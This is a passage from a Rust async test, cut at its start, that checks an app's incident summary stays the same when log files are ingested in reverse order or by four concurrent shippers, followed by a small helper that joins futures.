    );

    // The files in reverse order, one at a time.
    let reversed = app.second_org("reversed").await;
    for file in files.iter().rev() {
        ingest_raw(app, &reversed, file.clone()).await;
    }
    assert_eq!(
        incident_summary(app, &reversed).await,
        expected,
        "reversed files"
    );

    // Four shippers at once, each with every fourth file, from its end.
    let concurrent = app.second_org("concurrent").await;
    let shippers = (0..4).map(|shipper| {
        let token = concurrent.clone();
        let mine: Vec<Vec<u8>> = files
            .iter()
            .skip(shipper)
            .step_by(4)
            .rev()
            .cloned()
            .collect();
        async move {
            for file in mine {
                ingest_raw(app, &token, file).await;
            }
        }
    });
    futures_join_all(shippers).await;
    assert_eq!(
        incident_summary(app, &concurrent).await,
        expected,
        "concurrent shippers"
    );
}

/// Runs the futures concurrently to completion.
async fn futures_join_all<F: std::future::Future<Output = ()>>(futures: impl Iterator<Item = F>) {
    let mut set = Vec::new();
    for f in futures {
        set.push(Box::pin(f));
    }
    let mut pending: Vec<_> = set.into_iter().map(Some).collect();
    std::future::poll_fn(|cx| {
        let mut done = true;
        for slot in &mut pending {
            if let Some(f) = slot {
                if f.as_mut().poll(cx).is_ready() {
                    *slot = None;
                } else {
                    done = false;
                }
            }
        }
        if done {
            std::task::Poll::Ready(())
        } else {
            std::task::Poll::Pending
        }
    })
    .await
}
